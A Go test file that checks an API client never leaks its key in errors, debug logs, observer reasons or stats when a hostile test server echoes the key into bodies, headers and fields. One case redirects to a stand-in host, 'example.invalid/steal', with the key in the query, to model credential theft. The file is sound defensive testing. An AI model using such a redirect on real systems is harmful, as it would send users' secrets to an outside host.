package extract

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/rs/zerolog"

	"github.com/syncd/syncd/models"
)

// syncBuffer is a zerolog sink safe for the client's goroutines.
type syncBuffer struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (s *syncBuffer) Write(p []byte) (int, error) {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.Write(p)
}

func (s *syncBuffer) String() string {
	s.mu.Lock()
	defer s.mu.Unlock()
	return s.b.String()
}

// TestKeyNeverLeaks makes a hostile server echo the key everywhere it can
// (error bodies, HTML, Affise error texts, a row's field, the list, the
// pagination, Retry-After, a redirect's URL) and checks that nothing the
// client produces carries it: the error's text (and %+v), every log line at
// debug level, the observer's reasons and the stats.
func TestKeyNeverLeaks(t *testing.T) {
	const key = testKey
	echo := func(code int, body string) func(http.ResponseWriter, *http.Request, int, int64) {
		return func(w http.ResponseWriter, _ *http.Request, _ int, _ int64) {
			w.Header().Set("Retry-After", key)
			w.Header().Set("X-Echo", key)
			w.WriteHeader(code)
			w.Write([]byte(body))
		}
	}
	cases := []struct {
		name  string
		serve func(http.ResponseWriter, *http.Request, int, int64)
		model models.Model
	}{
		{"401 body", echo(401, `{"status":2,"error":"API-Key `+key+` is not valid"}`), nil},
		{"403 api-key=", echo(403, `{"error":"forbidden for api-key=`+key+`"}`), nil},
		{"404 html", echo(404, `<html>no route for key `+key+`</html>`), nil},
		{"429 retried then out", echo(429, `{"error":"slow down `+key+`"}`), nil},
		{"500 json", echo(500, `{"status":2,"message":"`+key+`"}`), nil},
		{"200 html", echo(200, `<html><body>proxy error for `+key+`</body></html>`), nil},
		{"200 status 2", echo(200, `{"status":2,"error":"key `+key+` is blocked"}`), nil},
		{"200 cut short", echo(200, `{"status":1,"conversions":[{"id":"`+key), nil},
		{"200 list is the key", echo(200, `{"status":1,"conversions":"`+key+`"}`), nil},
		{"200 pagination is the key", echo(200, `{"status":1,"conversions":[],"pagination":"`+key+`"}`), nil},
		{"200 total_count is the key", echo(200, `{"status":1,"conversions":[],"pagination":{"total_count":"`+key+`"}}`), nil},
		{"200 a row's int is the key", echo(200, `{"status":1,"conversions":[{"id":"a","offer_id":"`+key+`"}]}`), models.Conversions()},
		{"200 a row's money is the key", echo(200, `{"status":1,"conversions":[{"id":"a","revenue":"`+key+`"}]}`), models.Conversions()},
		{"200 a row's time is the key", echo(200, `{"status":1,"conversions":[{"id":"a","created_at":"`+key+`"}]}`), models.Conversions()},
		{"redirect to another host with the key", func(w http.ResponseWriter, r *http.Request, _ int, _ int64) {
			http.Redirect(w, r, "http://example.invalid/steal?api-key="+key+"&k="+key, http.StatusFound)
		}, nil},
		{"stall past the timeout", func(w http.ResponseWriter, r *http.Request, _ int, _ int64) {
			<-r.Context().Done()
		}, nil},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			srv, _ := hostileServer(t, tc.serve)
			logs := &syncBuffer{}
			log := zerolog.New(logs).Level(zerolog.DebugLevel)
			obs := &recObserver{}
			var hooks []string
			var mu sync.Mutex
			c := testClient(t, srv, ClientConfig{MaxRetries: 1, Timeout: 200 * time.Millisecond, Logger: log, MaxRetryAfter: 10 * time.Millisecond},
				WithObserver(obs), WithOnRequest(func(ep string, code int, _ time.Duration) {
					mu.Lock()
					hooks = append(hooks, fmt.Sprint(ep, code))
					mu.Unlock()
				}))
			m := tc.model
			if m == nil {
				m = testModel{}
			}
			s := mustStream(NewExtractor("conversions", c, m, Options{}))
			_, _, _, err := collect(t, context.Background(), s, Window{From: time.Now().Add(-time.Hour), To: time.Now()})
			if err == nil {
				t.Fatal("no error")
			}
			out := []string{err.Error(), fmt.Sprintf("%+v", err), fmt.Sprintf("%v", err), logs.String(),
				strings.Join(obs.reasons, " "), strings.Join(hooks, " "), fmt.Sprint(c.Stats()), fmt.Sprintf("%+v %#v", c, ClientConfig{Key: key})}
			for _, o := range out {
				if strings.Contains(o, key) {
					t.Fatalf("the key leaked:\n%s", o)
				}
			}
			if !strings.Contains(err.Error(), "GET /3.0/stats/conversions") {
				t.Errorf("error %q does not name the request", err)
			}
			t.Log(err)
		})
	}
}
